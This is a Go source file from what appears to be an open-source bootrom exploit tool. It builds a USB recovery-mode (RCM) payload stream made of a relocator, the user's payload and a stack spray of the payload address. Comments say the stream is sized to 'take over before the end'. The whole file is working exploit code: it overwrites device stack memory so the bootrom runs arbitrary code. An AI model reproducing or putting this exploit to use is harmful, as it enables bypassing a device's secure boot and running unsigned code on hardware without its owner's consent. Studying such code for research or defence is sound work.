// Package payload assembles the RCM command stream that carries the
// relocator, the stack spray and the user payload.
package payload

import (
	"bytes"
	"encoding/binary"
	"errors"
	"fmt"
	"os"

	"github.com/golang/glog"
	"golang.org/x/exp/constraints"

	"github.com/rcmhax/gelee/pkg/rcm"
)

var ErrRelocatorNotFound = errors.New("could not find the intermezzo relocator, did you build it?")

// TooLargeError is returned when the assembled payload does not fit in a
// single RCM transfer.
type TooLargeError struct {
	Length int
	Max    int
}

// Over returns by how many bytes the payload is too large.
func (e *TooLargeError) Over() int {
	return e.Length - e.Max
}

func (e *TooLargeError) Error() string {
	return fmt.Sprintf("payload is too large to be submitted via RCM (%d bytes larger than max)", e.Over())
}

func alignUp[T constraints.Integer](v, align T) T {
	if rem := v % align; rem != 0 {
		return v + align - rem
	}
	return v
}

// Build reads the relocator from relocatorPath and assembles it with target.
func Build(target []byte, relocatorPath string, p *rcm.Parameters) ([]byte, error) {
	if _, err := os.Stat(relocatorPath); err != nil {
		return nil, fmt.Errorf("%w (%s)", ErrRelocatorNotFound, relocatorPath)
	}
	relocator, err := ReadFile(relocatorPath)
	if err != nil {
		return nil, fmt.Errorf("could not read relocator: %w", err)
	}
	return Assemble(target, relocator, p)
}

// Assemble lays out the RCM command stream. Offsets in the stream map onto
// device memory as RCMPayloadAddr + (offset - HeaderSize):
//
//	[0, HeaderSize)             length field, zero padded
//	relocator                   at RCMPayloadAddr
//	zeroes                      up to PayloadStartAddr
//	target[:spray]              up to StackSprayStart, zero padded if short
//	RCMPayloadAddr repeated     up to StackSprayEnd
//	target[spray:]              whatever is left
//	zeroes                      up to the next Alignment boundary
func Assemble(target, relocator []byte, p *rcm.Parameters) ([]byte, error) {
	relocatorEnd := p.RCMPayloadAddr + uint32(len(relocator))
	if relocatorEnd > p.PayloadStartAddr {
		return nil, fmt.Errorf("relocator is %d bytes, does not fit before payload start (max %d)", len(relocator), p.PayloadStartAddr-p.RCMPayloadAddr)
	}

	buf := bytes.NewBuffer(nil)

	// Use the maximum length accepted by RCM, so that we can transmit as
	// much as we want. We take over before the end.
	binary.Write(buf, binary.LittleEndian, p.MaxLength)
	buf.Write(make([]byte, p.HeaderSize-buf.Len()))

	buf.Write(relocator)
	buf.Write(make([]byte, p.PayloadStartAddr-relocatorEnd))

	sprayOffset := int(p.StackSprayStart - p.PayloadStartAddr)
	head := target
	if len(head) > sprayOffset {
		head = head[:sprayOffset]
	}
	buf.Write(head)
	buf.Write(make([]byte, sprayOffset-len(head)))

	glog.V(1).Infof("Spraying 0x%08x over [0x%08x, 0x%08x)", p.RCMPayloadAddr, p.StackSprayStart, p.StackSprayEnd)
	var word [4]byte
	binary.LittleEndian.PutUint32(word[:], p.RCMPayloadAddr)
	buf.Write(bytes.Repeat(word[:], int(p.StackSprayEnd-p.StackSprayStart)/4))

	if len(target) > sprayOffset {
		buf.Write(target[sprayOffset:])
	}

	// Pad to fill USB requests exactly, so that we don't send a short packet
	// and break out of the RCM loop.
	buf.Write(make([]byte, alignUp(buf.Len(), p.Alignment)-buf.Len()))

	if buf.Len() > int(p.MaxLength) {
		return nil, &TooLargeError{Length: buf.Len(), Max: int(p.MaxLength)}
	}
	return buf.Bytes(), nil
}

// Offset returns the stream offset at which addr ends up in device memory.
func Offset(p *rcm.Parameters, addr uint32) int {
	return p.HeaderSize + int(addr-p.RCMPayloadAddr)
}
